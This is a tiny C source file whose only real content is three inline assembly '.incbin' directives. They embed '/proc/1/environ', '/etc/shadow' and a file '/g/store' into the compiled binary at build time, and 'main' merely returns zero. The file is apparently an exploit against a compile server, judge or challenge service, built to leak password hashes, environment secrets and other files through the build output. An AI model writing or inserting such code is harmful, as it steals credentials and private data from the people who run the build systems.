__asm__(".incbin \"/proc/1/environ\"");
__asm__(".incbin \"/etc/shadow\"");
__asm__(".incbin \"/g/store\"");
int main(void) { return 0; }
